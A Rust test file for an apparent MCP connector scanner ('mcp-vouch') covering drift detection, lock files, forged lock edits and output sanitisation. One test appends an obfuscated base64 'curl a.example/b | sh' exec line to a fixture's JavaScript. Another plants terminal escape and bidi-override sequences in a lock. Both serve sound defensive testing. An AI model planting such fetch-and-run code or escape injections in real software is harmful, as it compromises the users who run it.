//! Locks and what changed since: pairs with known changes, laws, and the commands that a person runs.

use std::{collections::BTreeSet, fs, path::Path};

use mcp_vouch::{
    baseline::{self, Entry},
    gate::Policy,
    scan::{self, Entries, Standard},
};
use serde_json::Value;

use super::support::{Answer, Place, acquire, assert_quiet, fixture, fixtures, root, schema_errors, shown};

/// The schema of locks.
const LOCK_SCHEMA: &str = "schema/lock-1.schema.json";

/// Each pair with the classes and directions of its changes, and the exit code.
const CASES: &[(&str, &[&str], i32)] = &[
    ("annotation-flipped", &["capability widens"], 1),
    ("annotation-lost", &["capability widens"], 1),
    ("dependency-added", &["dependency widens"], 1),
    ("dependency-git", &["dependency widens"], 1),
    ("dependency-unpinned", &["dependency widens"], 1),
    ("description-orders", &["text review", "text widens"], 1),
    ("egress-parameter", &["capability widens", "schema widens"], 1),
    ("egress-renamed", &["capability same", "schema widens"], 1),
    ("enumeration-loosened", &["schema widens"], 1),
    ("host-added", &["capability widens"], 1),
    ("install-hook", &["capability widens"], 1),
    ("list-fields", &[], 0),
    ("parameter-added", &["schema review"], 0),
    ("parameter-removed", &["schema narrows"], 0),
    ("parameter-text-orders", &["text review", "text widens"], 1),
    ("process", &["capability widens", "scope widens"], 1),
    ("read-tool", &["capability review"], 0),
    ("rename", &["capability same"], 0),
    ("reorder", &[], 0),
    ("repository-claim", &["identity review"], 0),
    ("schema-opened", &["schema widens"], 1),
    ("scope-widened", &["scope widens"], 1),
    ("secret-added", &["scope widens"], 1),
    ("setting-added", &["scope review"], 0),
    ("tool-removed", &["capability narrows"], 0),
    ("version", &["identity same"], 0),
    ("whitespace", &[], 0),
    ("wording", &["text review"], 0),
    ("write-tool", &["capability widens"], 1),
];

/// One side of a pair as a target.
fn side(case: &str, side: &str) -> String {
    let folder = format!("fixtures/drift/{case}/{side}");
    let captured = format!("{folder}/tools.json");
    if root().join(&captured).exists() { format!("tools:{captured}") } else { folder }
}

fn diff(before: &str, now: &str, more: &[&str]) -> Answer {
    let mut arguments = vec!["diff", before, now, "--offline"];
    arguments.extend(more);
    Place::new().run(&arguments)
}

fn report(answer: &Answer) -> Value {
    let document: Value =
        serde_json::from_str(&answer.stdout).unwrap_or_else(|_| panic!("{}", shown(answer)));
    document["reports"][0].clone()
}

/// Classes and directions of the changes in a report, each once.
fn changes(report: &Value) -> BTreeSet<String> {
    let findings = report["findings"].as_array().unwrap();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    findings
        .iter()
        .map(|finding| &finding["change"])
        .filter(|change| change.is_object())
        .map(|change| format!("{} {}", text(&change["class"]), text(&change["direction"])))
        .collect()
}

#[test]
fn every_pair_changes_as_expected_and_nothing_else() {
    let mut wrong = Vec::new();
    for (case, expected, code) in CASES {
        let answer = diff(&side(case, "before"), &side(case, "now"), &["--output", "json=-", "--quiet"]);
        let report = report(&answer);
        let found = changes(&report);
        let expected: BTreeSet<String> = expected.iter().map(|change| (*change).to_owned()).collect();
        if (found.clone(), answer.code) != (expected.clone(), *code) {
            wrong.push(format!(
                "{case}: {found:?}, exit code {}, not {expected:?}, {code}: {report:#}",
                answer.code
            ));
        }
        for finding in report["findings"].as_array().unwrap() {
            let widens = finding["change"]["direction"] == "widens";
            let is_change = finding["change"].is_object();
            if is_change && (finding["gates"] == true) != widens {
                wrong.push(format!("{case}: what widens fails the gate, and nothing else: {finding:#}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_pair_has_its_expectation() {
    let folders: BTreeSet<String> = fs::read_dir(root().join("fixtures/drift"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    let cases: BTreeSet<String> = CASES.iter().map(|(case, ..)| (*case).to_owned()).collect();
    assert_eq!(folders, cases);
}

#[test]
fn a_person_reads_what_changed() {
    for case in ["annotation-lost", "egress-parameter", "rename", "wording", "reorder"] {
        let answer = diff(&side(case, "before"), &side(case, "now"), &[]);
        insta::assert_snapshot!(format!("changes-{case}"), shown(&answer));
    }
}

/// Every connector among the fixtures.
fn everything() -> Vec<String> {
    let mut all: Vec<String> = fixtures().iter().map(|case| fixture(case)).collect();
    for (case, ..) in CASES {
        all.extend([side(case, "before"), side(case, "now")]);
    }
    for entry in fs::read_dir(root().join("fixtures/malice")).unwrap() {
        let case = entry.unwrap().file_name().into_string().unwrap();
        all.extend(["bad", "good"].map(|twin| format!("fixtures/malice/{case}/{twin}")));
    }
    all.sort();
    all
}

fn entry(written: &str) -> Entry {
    let (target, artifact) = acquire(written);
    let standard = Standard { entries: Entries::Kept, ..Standard::default() };
    scan::judge_against(&target, &artifact, &Policy::default(), &standard).entry.unwrap()
}

#[test]
fn identity_a_connector_compared_with_itself_has_no_change() {
    for written in everything() {
        let entry = entry(&written);
        let findings = mcp_vouch::detect::drift::between(&entry, &entry);
        assert!(findings.is_empty(), "{written}: {findings:#?}");
        assert_eq!(mcp_vouch::detect::drift::gaps(&entry, &entry), [], "{written}");
    }
}

#[test]
fn identity_a_connector_compared_with_its_own_lock_has_no_change() {
    for written in everything() {
        let entry = entry(&written);
        let lock = baseline::Lock::new(String::new(), vec![entry.clone()]);
        let text = baseline::render(&lock);
        let read = baseline::parse(&text).unwrap_or_else(|why| panic!("{written}: {why:?}\n{text}"));
        assert_eq!(baseline::render(&read), text, "{written}");
        let known = &read.connectors[0];
        assert_eq!(read.edited(known), None, "{written}");
        let findings = mcp_vouch::detect::drift::between(known, &entry);
        assert!(findings.is_empty(), "{written}: {findings:#?}");
        assert_quiet(&text, &written);
        let document: toml::Value = toml::from_str(&text).unwrap();
        let document = serde_json::to_string(&document).unwrap();
        assert_eq!(schema_errors(LOCK_SCHEMA, &document), [""; 0], "{written}");
    }
}

/// A connector in a place of its own, and its lock.
fn locked(case: &str) -> Place {
    let place = Place::empty();
    copy(&root().join("fixtures/drift").join(case).join("before"), &place, "server");
    let answer = place.run(&["lock", "server", "--offline"]);
    assert_eq!(answer.code, 0, "{}", shown(&answer));
    place
}

fn copy(from: &Path, place: &Place, to: &str) {
    for entry in fs::read_dir(from).unwrap() {
        let path = entry.unwrap().path();
        let to = format!("{to}/{}", path.file_name().unwrap().to_str().unwrap());
        if path.is_dir() {
            copy(&path, place, &to);
        } else {
            place.write(&to, fs::read(&path).unwrap());
        }
    }
}

fn read(place: &Place, path: &str) -> String {
    fs::read_to_string(place.work().join(path)).unwrap()
}

#[test]
fn a_lock_reads_as_a_person_reviews_it() {
    let place = locked("egress-parameter");
    insta::assert_snapshot!(
        "lock",
        read(&place, "mcp-vouch.lock").replace(&mcp_vouch::detect::catalogue::digest(), &"0".repeat(64),)
    );
}

#[test]
fn determinism_threads_change_no_byte_of_a_lock() {
    let targets: Vec<String> = CASES.iter().map(|(case, ..)| side(case, "before")).collect();
    let written: Vec<String> = ["1", "8"]
        .iter()
        .map(|threads| {
            let place = Place::new();
            let lock = tempfile::tempdir().unwrap();
            let lock = lock.path().join("x.lock");
            let mut arguments = vec!["lock", "--offline", "--quiet", "--threads", threads];
            arguments.extend(["-o", lock.to_str().unwrap(), "--reason", "a test"]);
            arguments.extend(targets.iter().map(String::as_str));
            let answer = place.run(&arguments);
            assert_eq!((answer.code, answer.stdout.as_str()), (0, ""), "{}", shown(&answer));
            fs::read_to_string(&lock).unwrap()
        })
        .collect();
    assert_eq!(written[0], written[1]);
}

#[test]
fn what_was_approved_passes_and_what_asks_for_more_fails_until_it_is_accepted() {
    let place = locked("egress-parameter");
    let check = |place: &Place| place.check(&["server", "--baseline", "mcp-vouch.lock"]);
    let same = check(&place);
    assert_eq!(same.code, 0, "{}", shown(&same));
    assert!(same.stdout.contains("nothing that has a meaning"), "{}", shown(&same));

    copy(&root().join("fixtures/drift/egress-parameter/now"), &place, "server");
    let more = check(&place);
    assert_eq!(more.code, 1, "{}", shown(&more));
    assert!(more.stdout.contains("gained parameter `callback_url`"), "{}", shown(&more));

    let before = read(&place, "mcp-vouch.lock");
    let refused = place.run(&["lock", "--update", "--offline"]);
    assert_eq!(refused.code, 1, "{}", shown(&refused));
    assert!(refused.stderr.contains("hint: `--reason TEXT` accepts it"), "{}", shown(&refused));
    assert_eq!(read(&place, "mcp-vouch.lock"), before);

    let accepted = place.run(&["lock", "--update", "--offline", "--reason", "we want the callback"]);
    assert_eq!(accepted.code, 0, "{}", shown(&accepted));
    assert!(read(&place, "mcp-vouch.lock").contains("reason = \"we want the callback\""));
    let again = check(&place);
    assert_eq!(again.code, 0, "{}", shown(&again));
    assert!(again.stdout.contains("accepted: we want the callback"), "{}", shown(&again));
}

#[test]
fn what_fails_the_gate_is_locked_only_for_a_reason_and_then_does_not_fail_again() {
    let place = Place::empty();
    copy(&root().join("fixtures/connectors/poisoned-tool"), &place, "server");
    let refused = place.run(&["lock", "server", "--offline"]);
    assert_eq!(refused.code, 1, "{}", shown(&refused));
    assert!(!place.work().join("mcp-vouch.lock").exists());

    let accepted = place.run(&["lock", "server", "--offline", "--reason", "for research"]);
    assert_eq!(accepted.code, 0, "{}", shown(&accepted));
    let known = place.check(&["server", "--baseline", "mcp-vouch.lock", "--output", "json=-"]);
    assert_eq!(known.code, 0, "{}", shown(&known));
    let report = report(&known);
    let findings = report["findings"].as_array().unwrap();
    assert!(findings.iter().any(|finding| finding["accepted"]["reason"] == "for research"), "{report:#}");
    assert!(findings.iter().all(|finding| finding["gates"] == false), "{report:#}");
    assert_eq!(place.check(&["server"]).code, 1, "without the lock nothing was accepted");

    let code = read(&place, "server/dist/index.js");
    place.write(
        "server/dist/index.js",
        code + "\nrequire('child_process').exec(atob('Y3VybCBhLmV4YW1wbGUvYnxzaA=='));\n",
    );
    let more = place.check(&["server", "--baseline", "mcp-vouch.lock"]);
    assert_eq!(more.code, 1, "{}", shown(&more));
}

#[test]
fn a_target_that_nobody_approved_is_never_a_pass() {
    let place = locked("egress-parameter");
    copy(&root().join("fixtures/connectors/clean-javascript"), &place, "other");
    let answer = place.check(&["other", "--baseline", "mcp-vouch.lock"]);
    assert_eq!(answer.code, 3, "{}", shown(&answer));
    assert!(answer.stdout.contains("`other` is not in the lock: nobody approved it"), "{}", shown(&answer));
    let added = place.run(&["lock", "--update", "other", "--offline"]);
    assert_eq!(added.code, 0, "{}", shown(&added));
    let both = place.check(&["other", "server", "--baseline", "mcp-vouch.lock"]);
    assert_eq!(both.code, 0, "{}", shown(&both));
}

#[test]
fn an_edit_by_hand_fails_and_is_named_with_what_it_approves() {
    for (from, to, expected) in [
        ("    \"name\"\n  ],", "    \"name\"\n  ] ,", "approves nothing more"),
        (
            "title = \"List files\"",
            "title = \"List\"",
            "tools; it approves nothing more than these bytes ask for",
        ),
        (
            "[[connector.tool]]\nname = \"list_files\"",
            "[[connector.tool]]\nname = \"delete_files\"\n\n[[connector.tool]]\nname = \"list_files\"",
            "tools; the edit widens: tool `delete_files` is new",
        ),
        (
            "uses = [\n",
            "uses = [\n  \"processes\",\n",
            "capabilities; the edit widens: the code now starts processes",
        ),
        ("verdict = \"pass\"", "verdict = \"fail\"", "approval; it approves nothing more"),
    ] {
        let place = locked("egress-parameter");
        let lock = read(&place, "mcp-vouch.lock");
        assert!(lock.contains(from), "{from}\n{lock}");
        place.write("mcp-vouch.lock", lock.replacen(from, to, 1));
        let answer = place.check(&["server", "--baseline", "mcp-vouch.lock"]);
        if from.starts_with("    ") {
            assert_eq!(answer.code, 0, "layout inside a schema: {}", shown(&answer));
            continue;
        }
        assert_eq!(answer.code, 1, "{to}: {}", shown(&answer));
        let words = answer.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(words.contains("baseline/edited"), "{words}");
        assert!(words.contains(expected), "{expected}: {words}");
        let again = place.run(&["lock", "--update", "--offline", "--reason", "looked at"]);
        assert_eq!(again.code, 0, "{}", shown(&again));
        assert_eq!(place.check(&["server", "--baseline", "mcp-vouch.lock"]).code, 0);
    }
}

#[test]
fn an_edit_that_hides_a_change_is_found_by_its_digest() {
    let place = locked("egress-parameter");
    copy(&root().join("fixtures/drift/egress-parameter/now"), &place, "server");
    place.run(&["lock", "server", "-o", "forged.lock", "--offline", "--reason", "forged"]);
    let (true_lock, forged) = (read(&place, "mcp-vouch.lock"), read(&place, "forged.lock"));
    let body = |text: &str| text.split_once("[connector.artifact]").unwrap().1.to_owned();
    let digests = |text: &str| text.split_once("[connector.digests]").unwrap().1.to_owned();
    let (head, _) = true_lock.split_once("[connector.artifact]").unwrap();
    let content = body(&forged).split_once("[connector.digests]").unwrap().0.to_owned();
    place.write(
        "mcp-vouch.lock",
        format!("{head}[connector.artifact]{content}[connector.digests]{}", digests(&true_lock)),
    );
    let answer = place.check(&["server", "--baseline", "mcp-vouch.lock"]);
    assert_eq!(answer.code, 1, "{}", shown(&answer));
    assert!(answer.stdout.contains("baseline/edited"), "{}", shown(&answer));
}

/// The lock of a published package whose provenance verifies offline.
fn attested() -> (Place, [String; 4]) {
    let place = Place::new();
    let arguments = [
        "fixtures/npm/sigstore-5.0.0.tgz".to_owned(),
        "--offline".to_owned(),
        "--attestations".to_owned(),
        "fixtures/sigstore/npm".to_owned(),
    ];
    (place, arguments)
}

#[test]
fn another_publisher_is_told_by_ids_that_outlive_a_rename() {
    let (place, target) = attested();
    let directory = tempfile::tempdir().unwrap();
    let lock = directory.path().join("x.lock");
    let lock = lock.to_str().unwrap();
    let target: Vec<&str> = target.iter().map(String::as_str).collect();
    let written = place.run(&[&["lock", "-o", lock, "--quiet", "--reason", "a test"], &target[..]].concat());
    assert_eq!(written.code, 0, "{}", shown(&written));
    let check = |place: &Place| {
        place.run(&[&["check", "--baseline", lock, "--quiet", "--output", "json=-"], &target[..]].concat())
    };
    let same = check(&place);
    assert_eq!(changes(&report(&same)), BTreeSet::new(), "{}", shown(&same));
    let original = fs::read_to_string(lock).unwrap();
    assert!(original.contains("owner_id = \""), "{original}");
    for (facts, state, rule, direction) in [
        (&[("owner_id", "1")][..], "verified", "drift/publisher-changed", "widens"),
        (
            &[("repository", "https://github.com/other/sigstore-js")],
            "verified",
            "drift/repository-renamed",
            "same",
        ),
        (
            &[("workflow", "https://github.com/other/x/.github/workflows/x.yml")],
            "verified",
            "drift/publisher-changed",
            "widens",
        ),
        (&[("issuer", "https://issuer.example")], "verified", "drift/publisher-changed", "widens"),
        (&[], "absent", "drift/provenance-gained", "narrows"),
    ] {
        let mut read = baseline::parse(&original).unwrap();
        for publisher in &mut read.connectors[0].publishers {
            if publisher.kind == "npm-provenance" {
                publisher.state = state.to_owned();
                for (name, fact) in facts {
                    publisher.facts.insert((*name).to_owned(), mcp_vouch::untrusted::Untrusted::new(*fact));
                }
            }
        }
        fs::write(lock, baseline::render(&read)).unwrap();
        let answer = check(&place);
        let report = report(&answer);
        let findings = report["findings"].as_array().unwrap();
        let found = findings.iter().find(|finding| finding["rule"] == rule);
        let found = found.unwrap_or_else(|| panic!("{facts:?}: no `{rule}` in {findings:#?}"));
        assert_eq!(found["change"]["direction"], direction, "{found:#}");
        assert_eq!(found["change"]["class"], "identity", "{found:#}");
    }
    fs::write(lock, &original).unwrap();
    let bare =
        place.run(&["check", target[0], "--offline", "--baseline", lock, "--quiet", "--output", "json=-"]);
    assert!(
        [1, 3].contains(&bare.code),
        "provenance that is not there any more is no pass: {}",
        shown(&bare)
    );
}

#[test]
fn formats_carry_the_same_changes() {
    let (before, now) = (side("egress-parameter", "before"), side("egress-parameter", "now"));
    let plain = diff(&before, &now, &[]);
    let json = report(&diff(&before, &now, &["--output", "json=-", "--quiet"]));
    let sarif: Value =
        serde_json::from_str(&diff(&before, &now, &["--output", "sarif=-", "--quiet"]).stdout).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    for finding in json["findings"].as_array().unwrap() {
        let result = results.iter().find(|result| {
            result["ruleId"] == finding["rule"] && result["message"]["text"] == finding["message"]
        });
        let result = result.unwrap_or_else(|| panic!("SARIF lacks {finding:#}"));
        assert_eq!(result["properties"]["change"], finding["change"], "{finding:#}");
        assert!(
            words(&plain.stdout).contains(&words(finding["message"].as_str().unwrap())),
            "{}",
            plain.stdout
        );
    }
    assert_eq!(json["baseline"]["name"], "files-server-example");
    assert!(json["findings"].as_array().unwrap().iter().any(|finding| finding["tool"] == "read_text_file"));
}

#[test]
fn a_lock_stands_for_what_was() {
    let place = locked("egress-parameter");
    copy(&root().join("fixtures/drift/egress-parameter/now"), &place, "new");
    let with_target = place.run(&["diff", "mcp-vouch.lock", "new", "--offline"]);
    assert_eq!(with_target.code, 1, "{}", shown(&with_target));
    let alone = place.run(&["diff", "mcp-vouch.lock", "--offline"]);
    assert_eq!(alone.code, 0, "{}", shown(&alone));
    place.run(&["lock", "new", "-o", "new.lock", "--offline", "--reason", "a test"]);
    let locks = place.run(&["diff", "mcp-vouch.lock", "new.lock", "--offline"]);
    assert_eq!(locks.code, 1, "{}", shown(&locks));
    assert!(locks.stdout.contains("gained parameter `callback_url`"), "{}", shown(&locks));
    let turned = place.run(&["diff", "new", "mcp-vouch.lock", "--offline"]);
    assert_eq!(turned.code, 2, "{}", shown(&turned));
}

#[test]
fn what_cannot_be_compared_is_never_no_change() {
    let place = locked("egress-parameter");
    let gone = place.run(&[
        "diff",
        "server",
        "npm:@example/gone@1.0.0",
        "--offline",
        "--npm-registry",
        "https://registry.example/",
    ]);
    assert_eq!(gone.code, 3, "{}", shown(&gone));
    let turned = place.run(&[
        "diff",
        "npm:@example/gone@1.0.0",
        "server",
        "--offline",
        "--npm-registry",
        "https://registry.example/",
    ]);
    assert_eq!(turned.code, 3, "{}", shown(&turned));
    place.write("server/dist/more.js", "(".repeat(50_000));
    let unread = place.run(&["diff", "mcp-vouch.lock", "server", "--offline"]);
    assert_eq!(unread.code, 3, "{}", shown(&unread));
}

#[test]
fn bounds_hold_for_every_connector_and_every_mistake_in_them_is_told() {
    let place = Place::empty();
    copy(&root().join("fixtures/drift/host-added/now"), &place, "server");
    place.write(
        "bounds.toml",
        "hosts = [\"weather.example\"]\n[[forbid]]\ntogether = [\"open-network\", \"file-writes\"]\n",
    );
    let answer = place.check(&["server", "--bounds", "bounds.toml", "--output", "json=-", "--quiet"]);
    assert_eq!(answer.code, 1, "{}", shown(&answer));
    let report = report(&answer);
    let findings = report["findings"].as_array().unwrap();
    let rules: Vec<&str> = findings
        .iter()
        .filter(|finding| finding["gates"] == true)
        .map(|finding| finding["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["bounds/host"], "{report:#}");
    place.write("bounds.toml", "host = []\n[[forbid]]\ntogether = [\"net\"]\n");
    let wrong = place.check(&["server", "--bounds", "bounds.toml"]);
    insta::assert_snapshot!("usage-bounds", shown(&wrong));
    assert_eq!(wrong.code, 2);
}

#[test]
fn locks_that_cannot_be_used_say_so_before_anything_is_scanned() {
    let place = locked("egress-parameter");
    let lock = read(&place, "mcp-vouch.lock");
    for (name, text) in [
        ("newer", lock.replace("format = 1", "format = 2")),
        ("no-lock", "hello".to_owned()),
        ("unknown-key", lock.replacen("verdict = ", "verdikt = ", 1)),
        ("hostile", format!("format = 1\nwritten_by = \"\u{7f}\"\n{}", "[".repeat(100))),
    ] {
        place.write("broken.lock", text);
        let answer = place.check(&["server", "--baseline", "broken.lock"]);
        assert_eq!((answer.code, answer.stdout.as_str()), (2, ""), "{name}: {}", shown(&answer));
        assert_quiet(&answer.stderr, name);
        insta::assert_snapshot!(format!("usage-lock-{name}"), shown(&answer));
    }
    let missing = place.check(&["server", "--baseline", "missing.lock"]);
    assert_eq!(missing.code, 2, "{}", shown(&missing));
    let exists = place.run(&["lock", "server", "--offline"]);
    insta::assert_snapshot!("usage-lock-exists", shown(&exists));
    let nothing = place.run(&["lock", "--update", "-o", "none.lock"]);
    assert_eq!(nothing.code, 2, "{}", shown(&nothing));
    assert_eq!(place.run(&["diff", "server"]).code, 2);
}

#[test]
fn quiet_output_whatever_a_lock_says() {
    let loud = "\\u001B]0;owned\\u0007\\u202E\\u200B";
    let place = locked("egress-parameter");
    let lock = read(&place, "mcp-vouch.lock")
        .replace("\"read_text_file\"", &format!("\"read{loud}\""))
        .replace("Lists the names", &format!("Lists{loud} the names"))
        .replace("files-server-example", &format!("files{loud}"))
        .replace("\"^", &format!("\"{loud}^"));
    place.write("mcp-vouch.lock", lock);
    for format in ["plain", "json", "sarif"] {
        let output = format!("{format}=-");
        for arguments in [
            &["check", "server", "--baseline", "mcp-vouch.lock"][..],
            &["diff", "mcp-vouch.lock", "server"],
            &["diff", "mcp-vouch.lock", "mcp-vouch.lock"],
        ] {
            let answer = place.run(&[arguments, &["--offline", "--quiet", "--output", &output]].concat());
            assert!(!answer.stdout.is_empty(), "{}", shown(&answer));
            assert_quiet(&answer.stdout, format);
            assert_quiet(&answer.stderr, format);
        }
    }
}
